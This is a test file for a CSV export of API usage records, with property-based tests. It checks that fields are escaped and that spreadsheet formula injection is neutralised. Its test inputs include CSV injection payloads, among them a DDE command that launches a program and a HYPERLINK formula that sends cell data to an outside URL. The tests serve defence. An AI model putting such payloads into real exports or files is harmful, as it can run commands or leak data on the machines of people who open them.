import fc from 'fast-check'
import t from 'tap'
import { csv, csvLine } from '../../../src/usage/export/csv.ts'
import { exportedColumns } from '../../../src/usage/export/exported-row.ts'
import { holds } from '../../properties/property.ts'
import { readCsv } from './csv-reader.ts'
import { aRow } from './support.ts'

t.test('a row is a line under its header', async t => {
  t.equal(csv.header, 'id,createdAt,keyId,keyPrefix,userId,route,method,endpoint,status,responseTimeMs,requestBytes,responseBytes,ipAddress,userAgent,requestId\r\n')
  t.equal(csv.lineOf(aRow), '7,2030-01-31T12:00:00.123Z,3,sk_live_a1B2,5f0c6f3e-7d0a-4f43-9a5e-0f6d4c1f2b11,read,GET,/inventory/1,200,12,0,340,192.0.2.1,curl/8,r-1\r\n')
})

t.test('what is not known is empty, and an empty text is not', async t => {
  const nothing = Object.fromEntries(exportedColumns.map(column => [column, null])) as unknown as typeof aRow
  t.equal(csv.lineOf({ ...nothing, id: 1, keyId: 2, endpoint: '', method: 'GET' }), '1,,2,,,,GET,"",,,,,,,\r\n')
})

const texts: Readonly<Record<string, readonly [text: string, read: string]>> = {
  'a comma': ['a,b', 'a,b'],
  quotes: ['say "hi"', 'say "hi"'],
  'spaces around': [' a ', ' a '],
  'letters of the world': ['Zoë – 東京 🚪', 'Zoë – 東京 🚪'],
  'a line feed': ['a\nb', 'a\\u000ab'],
  'a carriage return': ['a\rb', 'a\\u000db'],
  'a tab': ['a\tb', 'a\\u0009b'],
  'a NEL': ['a\u0085b', 'a\\u0085b'],
  'a line separator': ['a\u2028b', 'a\\u2028b'],
  'an override of direction': ['a\u202eb', 'a\\u202eb'],
}
for (const [name, [text, read]] of Object.entries(texts)) {
  t.test(`${name} in a text`, async t => t.strictSame(readCsv(csvLine([1, text])), [['1', read]]))
}

const formulas: Readonly<Record<string, readonly [text: string, read: string]>> = {
  equals: ['=1+1', "'=1+1"],
  plus: ['+1', "'+1"],
  minus: ['-1', "'-1"],
  at: ['@SUM(A1)', "'@SUM(A1)"],
  'a command': ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  'a link that takes data along': ['=HYPERLINK("http://example.com?x="&A1,"here")', "'=HYPERLINK(\"http://example.com?x=\"&A1,\"here\")"],
  'full-width equals': ['\uff1d1', "'\uff1d1"],
  'full-width plus': ['\uff0b1', "'\uff0b1"],
  'full-width minus': ['\uff0d1', "'\uff0d1"],
  'full-width at': ['\uff20A', "'\uff20A"],
  'behind spaces': ['  =1', "'  =1"],
  'behind a no-break space': ['\u00a0=1', "'\u00a0=1"],
  'behind an ideographic space': ['\u3000=1', "'\u3000=1"],
  'behind a zero-width space': ['\u200b=1', "'\u200b=1"],
  'behind a byte order mark': ['\ufeff=1', "'\ufeff=1"],
  'behind a quote': ['"=1', "'\"=1"],
  'behind a tab, which is written out': ['\t=1', '\\u0009=1'],
  'behind a carriage return, which is written out': ['\r=1', '\\u000d=1'],
  'behind a line feed, which is written out': ['\n=1', '\\u000a=1'],
  'where a semicolon separates fields': ['a;=1', "a;'=1"],
  'where it does so behind quotes': ['a";"=1', "a\";'\"=1"],
  'in every field of such a line': ['=1; +2;a;-3', "'=1;' +2;a;'-3"],
}
for (const [name, [text, read]] of Object.entries(formulas)) {
  t.test(`a formula: ${name}`, async t => t.strictSame(readCsv(csvLine([text, 2])), [[read, '2']]))
}

t.test('no formula is left as it is', async t => {
  for (const text of ["it's", 'a=b', '/x?a=1', 'Mozilla/5.0 (X11; Linux x86_64)', '1-2', 'mail@example.com', "'=1"]) {
    t.strictSame(readCsv(csvLine([text])), [[text]])
  }
})

t.test('numbers are no texts: a minus is theirs', async t => t.equal(csvLine([-1, 0.5]), '-1,0.5\r\n'))

const odd = fc.string({ unit: fc.oneof(fc.constantFrom(...'=+-@;,"\'\t\r\n \u00a0\u200b\ufeff\uff1d\\'), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })), maxLength: 12 })

holds(t, 'what is written is read back, but for apostrophes before formulas and control characters', 20_000, fc.property(fc.array(odd, { minLength: 1, maxLength: 4 }), texts => {
  const line = csvLine(texts)
  const [read, ...others] = readCsv(line)
  return others.length === 0 && read?.length === texts.length && !/\p{Cc}/u.test(line.slice(0, -2)) &&
    texts.every((text, index) => read[index]!.replace(/'/g, '') === writtenOut(text).replace(/'/g, ''))
}))

holds(t, 'no field begins a formula, wherever semicolons separate fields, too', 20_000, fc.property(fc.array(odd, { minLength: 1, maxLength: 4 }), texts => {
  const line = csvLine(texts)
  const fields = [...readCsv(line)[0]!, ...line.trimEnd().split(';').slice(1)]
  return fields.every(field => !/^[\s"\u200b\ufeff]*[=+\-@\uff1d]/.test(field))
}))

t.test('the id of a line', async t => {
  t.equal(csv.idOf(csv.lineOf(aRow).slice(0, -1)), 7)
  for (const line of ['', 'id,createdAt\r', '7', 'x,1\r', csv.header.slice(0, -1)]) t.equal(csv.idOf(line), null, JSON.stringify(line))
})

function writtenOut (text: string): string {
  return text.replace(/[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/gu, character => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`)
}
